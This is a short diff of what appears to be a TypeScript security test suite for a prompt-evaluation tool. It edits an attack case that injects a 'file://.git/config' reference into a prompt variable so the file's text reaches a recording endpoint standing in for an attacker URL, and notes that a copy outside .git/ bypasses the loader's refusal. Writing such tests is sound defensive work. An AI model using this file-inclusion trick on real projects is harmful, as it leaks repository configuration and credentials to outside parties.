@@ -133,7 +133,8 @@ const ATTACKS: Attack[] = [
       'promptgate.yaml': suiteYaml().replace('    vars: { n: 9 }', '    vars: { n: 9, leak: "file://.git/config" }'),
       'prompts/answer.txt': `${promptText(9, 'Please answer the question')}{{ leak }}\n`,
     }),
-    headPassRate: '0.9000',
+    // Under the base's tests no case defines `leak`: printing it is an error of every head case.
+    headPassRate: undefined,
     // .git/ is refused by the loader on every event; the same reference to a copy outside it is live.
     // The copy's text goes where a prompt goes: to the model (here the recording endpoint).
     controlHead: ({ attackerUrl }) => ({
